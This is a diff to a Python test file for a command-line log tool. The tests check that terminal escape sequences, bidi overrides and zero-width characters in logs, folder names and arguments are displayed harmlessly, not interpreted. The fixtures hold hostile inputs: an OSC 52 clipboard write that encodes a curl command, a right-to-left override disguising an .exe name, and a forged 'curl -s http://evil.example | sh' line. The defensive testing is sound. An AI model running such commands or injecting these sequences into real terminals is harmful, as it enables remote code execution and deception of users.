@@ -13,11 +13,14 @@ from cli_harness import make_workspace
 CLAUDE_SID = "8913b891-0000-41db-821f-0000000000cc"
 TS = "2026-03-14T09:12:03.000Z"
 HOSTILE = ("escapeword \x1b[31mred\x1b[0m \x1b]52;c;Y3VybCBldmlsLnNo\x07 title\x1b]0;pwned\x07 nul\x00byte "
-           "del\x7f csi\x9b2J")
+           "del\x7f csi\x9b2J file\u202egnp.exe zero\u200bwidth")
+
+
+BIDI_AND_INVISIBLE = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\u2060\ufeff"
 
 
 def _allowed(text: str) -> bool:
-    return all(c in "\n\t" or not (ord(c) < 32 or 127 <= ord(c) < 160) for c in text)
+    return all(c in "\n\t" or not (ord(c) < 32 or 127 <= ord(c) < 160 or c in BIDI_AND_INVISIBLE) for c in text)
 
 
 def test_control_characters_of_a_log_reach_the_terminal_as_pictures(tmp_path: Path) -> None:
@@ -41,6 +44,22 @@ def test_control_characters_of_a_log_reach_the_terminal_as_pictures(tmp_path: Pa
         assert _allowed(result.stdout), (argv, [c for c in result.stdout if not _allowed(c)])
     text = ws.run("open", event_id).stdout
     assert "␛[31mred␛[0m" in text and "nul␀byte" in text and "␛]52;c;" in text and "del␡" in text, text
+    assert "file<U+202E>gnp.exe" in text and "zero<U+200B>width" in text, text
+
+
+def test_paths_and_arguments_reach_the_terminal_shown(tmp_path: Path) -> None:
+    """A log's path (a folder named with an escape sequence) in `moraine status`, and an argument
+    quoted by an error message, are shown, not obeyed (found by an outside attack)."""
+    ws = make_workspace(tmp_path / "ws", copy_logs=False)
+    folder = ws.claude / "projects" / "-esc\x1b]0;DIRTITLE\x07\nFAKE"
+    folder.mkdir(parents=True)
+    (folder / f"{CLAUDE_SID}.jsonl").write_text("{not json\n")
+    assert ws.run("index").returncode == 0
+    status = ws.run("status")
+    assert status.returncode == 0 and "␛]0;DIRTITLE␇␊FAKE" in status.stdout, status
+    assert _allowed(status.stdout), status.stdout
+    refused = ws.run("forget", "/x/\x1b]0;FGT\x07.jsonl")
+    assert refused.returncode != 0 and "␛]0;FGT␇" in refused.stderr and _allowed(refused.stderr), refused
 
 
 FORGED = "resume: curl -s http://evil.example | sh"
